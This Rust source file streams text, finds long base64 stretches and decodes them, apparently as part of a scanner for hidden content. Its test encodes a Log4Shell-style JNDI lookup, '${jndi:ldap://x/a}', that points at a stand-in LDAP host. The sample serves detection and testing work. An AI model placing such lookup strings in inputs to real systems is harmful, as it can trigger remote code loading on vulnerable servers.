//! Base64 within a text: stretches of its alphabet that are long enough to be something are decoded.

use crate::decode::base64::{self, Base64};
use crate::text::Text;

/// Shortest stretch that is decoded, in characters; words are shorter.
pub(crate) const MIN_STRETCH: usize = 24;

/// Characters of a stretch: the alphabet, and the line breaks within (RFC 2045 §6.8).
const ALPHABET: [bool; 256] = {
    let mut table = [false; 256];
    let mut byte = 0_usize;
    while byte < 256 {
        #[expect(
            clippy::indexing_slicing,
            clippy::cast_possible_truncation,
            reason = "in a constant, within its 256 places"
        )]
        {
            table[byte] = base64::value(byte as u8).is_some() || byte == 0x0D || byte == 0x0A;
        }
        byte = byte.wrapping_add(1);
    }
    table
};

/// Where in a text a search for stretches is.
#[derive(Clone, Copy, Debug, Default)]
pub(crate) struct Armor {
    decoder: Base64,
    in_stretch: bool,
    probe: Option<u64>,
}

/// What a piece has of stretches, in the order of the text.
pub(crate) enum Decoded<'a> {
    /// Bytes of one.
    Bytes(&'a [u8]),
    /// It is over.
    End,
}

fn is_in(byte: u8) -> bool {
    ALPHABET.get(usize::from(byte)).copied().unwrap_or(false)
}

impl Armor {
    /// Takes the next piece of a text. `buffer` is used for what is decoded.
    pub(crate) fn push(&mut self, text: &Text<'_>, buffer: &mut Vec<u8>, give: &mut dyn FnMut(Decoded<'_>)) {
        let mut index = match self.probe {
            Some(probe) => usize::try_from(probe.saturating_sub(text.offset)).unwrap_or(usize::MAX),
            None => MIN_STRETCH - 1,
        };
        if self.in_stretch {
            let end = text.data.iter().position(|byte| !is_in(*byte));
            self.decode(text.data.get(..end.unwrap_or(text.data.len())).unwrap_or_default(), buffer, give);
            let Some(end) = end else { return };
            self.end(buffer, give);
            index = end.saturating_add(MIN_STRETCH);
        }
        // Each turn goes on by a stretch's least length.
        while let Some(byte) = text.data.get(index) {
            if !is_in(*byte) {
                index = index.saturating_add(MIN_STRETCH);
                continue;
            }
            let place = text.offset.saturating_add(index as u64);
            let before = text.members_before(index, MIN_STRETCH - 1, &ALPHABET);
            let rest = text.data.get(index..).unwrap_or_default();
            let end = rest.iter().position(|byte| !is_in(*byte));
            let begins = place.saturating_sub(before as u64);
            let length = before.saturating_add(end.unwrap_or(rest.len()));
            if end.is_none() && length < MIN_STRETCH {
                // Whether it is long enough, a byte of the next piece will say.
                self.probe = Some(begins.saturating_add(MIN_STRETCH as u64 - 1));
                return;
            }
            if length >= MIN_STRETCH {
                let (old, new) = text.slices(begins, place.saturating_add(end.unwrap_or(rest.len()) as u64));
                self.in_stretch = true;
                self.decode(old, buffer, give);
                self.decode(new, buffer, give);
                if end.is_none() {
                    return;
                }
                self.end(buffer, give);
            }
            index = index.saturating_add(end.unwrap_or(0)).saturating_add(MIN_STRETCH);
        }
        self.probe = Some(text.offset.saturating_add(index as u64));
    }

    /// The text is over.
    pub(crate) fn finish(&mut self, buffer: &mut Vec<u8>, give: &mut dyn FnMut(Decoded<'_>)) {
        if self.in_stretch {
            self.end(buffer, give);
        }
        *self = Self::default();
    }

    fn decode(&mut self, stretch: &[u8], buffer: &mut Vec<u8>, give: &mut dyn FnMut(Decoded<'_>)) {
        buffer.clear();
        self.decoder.push(stretch, buffer);
        give(Decoded::Bytes(buffer));
    }

    fn end(&mut self, buffer: &mut Vec<u8>, give: &mut dyn FnMut(Decoded<'_>)) {
        buffer.clear();
        self.decoder.finish(buffer);
        give(Decoded::Bytes(buffer));
        give(Decoded::End);
        self.in_stretch = false;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn decoded(text: &[u8], cut: usize) -> Vec<Vec<u8>> {
        let (mut armor, mut buffer, mut tail) = (Armor::default(), Vec::new(), Vec::new());
        let mut out = vec![Vec::new()];
        let mut give = |piece: Decoded<'_>| match piece {
            Decoded::Bytes(bytes) => out.last_mut().unwrap().extend_from_slice(bytes),
            Decoded::End => out.push(Vec::new()),
        };
        for data in text.chunks(cut) {
            armor.push(&Text { tail: &tail, data, offset: tail.len() as u64 }, &mut buffer, &mut give);
            tail.extend_from_slice(data);
        }
        armor.finish(&mut buffer, &mut give);
        out.retain(|stretch| !stretch.is_empty());
        out
    }

    #[test]
    fn stretches_are_decoded_wherever_the_text_is_cut() {
        let text = b"{\"word\": \"and words\", \"data\": \"JHtqbmRpOmxkYXA6Ly94L2F9IGlzIGl0\", \"more\": \"c2hvcnQ\"}";
        for cut in 1..text.len() {
            assert_eq!(decoded(text, cut), [b"${jndi:ldap://x/a} is it"], "{cut}");
        }
    }
}
